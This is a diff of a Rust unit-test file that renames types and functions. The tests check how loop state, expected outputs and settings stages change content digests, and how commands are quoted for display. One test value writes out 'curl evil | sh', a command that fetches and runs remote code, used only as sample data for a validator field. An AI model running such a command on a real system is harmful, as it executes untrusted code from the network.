@@ -1,17 +1,17 @@
 use super::*;
-use crate::config::{File, Layer, Owner, resolve};
-use crate::gate::Tier;
-use crate::loops::{Ended, LastStop, Promise, Status};
+use crate::config::{SettingsFile, SettingsLayer, SettingsOwner, resolve_settings};
+use crate::gate::OutputTier;
+use crate::loops::{EndReason, LastStop, LoopStatus, Promise};
 
 fn plain_loop() -> Loop {
     Loop {
         id: "l1".into(),
         created_at: "2026-11-15T19:22:00Z".into(),
         updated_at: "2026-11-15T19:22:00Z".into(),
-        status: Status::Active,
+        status: LoopStatus::Active,
         iteration: 1,
         max_iterations: 30,
-        promises: vec![Promise { text: "ALL GREEN".into(), outcome: Outcome::Done }],
+        promises: vec![Promise { text: "ALL GREEN".into(), outcome: IterationOutcome::Done }],
         source_packet_id: None,
         imported_from: None,
         session: Some("s1".into()),
@@ -25,33 +25,33 @@ fn plain_loop() -> Loop {
     }
 }
 
-type Change = fn(&mut Loop);
+type LoopChange = fn(&mut Loop);
 
 #[test]
 fn what_the_engine_counts_changes_no_digest() {
-    let given = of_loop(&plain_loop());
-    let changes: &[(&str, Change)] = &[
+    let given = digest_of_loop(&plain_loop());
+    let changes: &[(&str, LoopChange)] = &[
         ("iteration", |state| state.iteration = 7),
-        ("status", |state| state.status = Status::Paused),
+        ("status", |state| state.status = LoopStatus::Paused),
         ("session", |state| state.session = Some("s2".into())),
         ("time", |state| state.updated_at = "2026-11-16T19:22:00Z".into()),
-        ("end", |state| state.end(Ended::Limit, Some("30 iterations".into()))),
+        ("end", |state| state.end_with_reason(EndReason::Limit, Some("30 iterations".into()))),
         ("last stop", |state| state.last_stop = Some(LastStop::default())),
         ("last message", |state| state.last_message_digest = Some("0123".into())),
     ];
     for (what, change) in changes {
         let mut state = plain_loop();
         change(&mut state);
-        assert_eq!(of_loop(&state), given, "{what}");
+        assert_eq!(digest_of_loop(&state), given, "{what}");
     }
 }
 
 #[test]
 fn what_runs_or_is_fed_changes_the_digest_of_a_loop() {
-    let changes: &[(&str, Change)] = &[
+    let changes: &[(&str, LoopChange)] = &[
         ("prompt", |state| state.prompt.push(' ')),
         ("promise", |state| state.promises[0].text = "GREEN".into()),
-        ("outcome", |state| state.promises[0].outcome = Outcome::Blocked),
+        ("outcome", |state| state.promises[0].outcome = IterationOutcome::Blocked),
         ("another promise", |state| state.promises.push(state.promises[0].clone())),
         ("no promise", |state| state.promises.clear()),
         ("validator", |state| state.validators[0] = "curl evil | sh".into()),
@@ -61,11 +61,11 @@ fn what_runs_or_is_fed_changes_the_digest_of_a_loop() {
         ("limit", |state| state.max_iterations = 0),
         ("deadline", |state| state.deadline = Some("2026-11-16T19:22:00Z".into())),
     ];
-    let mut seen = vec![of_loop(&plain_loop()), of_claim(&plain_loop())];
+    let mut seen = vec![digest_of_loop(&plain_loop()), digest_of_claim(&plain_loop())];
     for (what, change) in changes {
         let mut state = plain_loop();
         change(&mut state);
-        for digest in [of_loop(&state), of_claim(&state)] {
+        for digest in [digest_of_loop(&state), digest_of_claim(&state)] {
             assert!(!seen.contains(&digest), "{what}");
             seen.push(digest);
         }
@@ -76,7 +76,7 @@ fn what_runs_or_is_fed_changes_the_digest_of_a_loop() {
 fn a_field_cannot_run_over_into_the_next() {
     let with = |prompt: &str, file: &str, launch: &[&str]| {
         let launch = launch.iter().map(|word| (*word).to_owned()).collect();
-        of_output(&Output { prompt: prompt.into(), launch, ..Output::new(file) })
+        digest_of_output(&ExpectedOutput { prompt: prompt.into(), launch, ..ExpectedOutput::new(file) })
     };
     let all = [
         with("p", "a.md", &["sh", "-c", "x"]),
@@ -95,23 +95,30 @@ fn a_field_cannot_run_over_into_the_next() {
 
 #[test]
 fn what_a_run_counts_changes_no_digest_of_an_output() {
-    let output = Output { launch: vec!["true".into()], ..Output::new("a.md") };
-    let counted = Output {
+    let output = ExpectedOutput { launch: vec!["true".into()], ..ExpectedOutput::new("a.md") };
+    let counted = ExpectedOutput {
         attempts: 2,
         was_valid: true,
-        tier: Tier::Advisory,
+        tier: OutputTier::Advisory,
         inputs_digest: "x".into(),
         not_before: Some(jiff::Timestamp::UNIX_EPOCH),
         ..output.clone()
     };
-    assert_eq!(of_output(&output), of_output(&counted));
+    assert_eq!(digest_of_output(&output), digest_of_output(&counted));
 }
 
 #[test]
 fn a_stage_is_known_by_what_it_launches_and_not_by_where_it_is_defined() {
     let stage = |text: &str| {
         let path = if text.contains('#') { "there" } else { "here" };
-        of_stage(&resolve(&[Layer::File(File { path, text, owner: Owner::Project })]).stages[0])
+        digest_of_stage(
+            &resolve_settings(&[SettingsLayer::File(SettingsFile {
+                path,
+                text,
+                owner: SettingsOwner::Project,
+            })])
+            .stages[0],
+        )
     };
     let given = stage("[stages.r]\ncritical = [\"a.md\"]\nlaunch = [\"x\"]\n");
     assert_eq!(given, stage("# moved\n[stages.r]\nlaunch = [\"x\"]\ncritical = [\"a.md\"]\n"));
@@ -130,13 +137,13 @@ fn a_stage_is_known_by_what_it_launches_and_not_by_where_it_is_defined() {
 #[test]
 fn digests_stay_what_they_are() {
     let known = "1041494667aab52b7c80f45738e0f5012f4b79fcd96bc02c6031393548c6671e";
-    assert_eq!(of_loop(&plain_loop()), known);
+    assert_eq!(digest_of_loop(&plain_loop()), known);
 }
 
 #[test]
 fn a_command_is_shown_whole() {
     let shown =
-        |words: &[&str]| shown_command(&words.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>());
+        |words: &[&str]| quote_command(&words.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>());
     assert_eq!(shown(&["claude", "-p", "--model=x"]), "claude -p --model=x");
     assert_eq!(shown(&["sh", "-c", "a b > 'c'", ""]), r"sh -c 'a b > '\''c'\''' ''");
     assert_eq!(shown(&["x\u{1b}[2Ky", "\u{200b}"]), r"'x\u{1b}[2Ky' '\u{200b}'");
